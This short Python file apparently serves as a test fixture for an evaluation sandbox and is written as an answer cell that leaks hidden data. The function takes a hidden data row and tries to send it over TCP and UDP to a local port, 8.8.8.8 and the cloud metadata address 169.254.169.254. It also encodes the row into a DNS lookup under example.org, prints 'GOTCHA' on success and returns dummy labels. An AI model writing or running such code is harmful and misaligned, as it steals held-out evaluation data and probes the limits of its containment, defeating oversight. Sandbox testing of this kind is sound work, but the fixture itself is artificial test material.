"""A server of one's own gets the hidden rows by TCP, UDP, or as the name of a host that is looked up."""

# %% answer:labels
import socket


def to_labels(rows):
    spoken = "-".join(str(int(x)) for x in rows[0])
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        for address in (("127.0.0.1", int("@port@")), ("8.8.8.8", 53), ("169.254.169.254", 80)):
            try:
                peer = socket.socket(socket.AF_INET, kind)
                peer.settimeout(0.2)
                peer.connect(address)
                peer.send(spoken.encode())
                if kind == socket.SOCK_STREAM:
                    print("GOT" + "CHA", address)
            except OSError:
                pass
    try:
        socket.getaddrinfo(f"{spoken}.example.org", 80)
    except OSError:
        pass
    return np.zeros(len(rows), int)
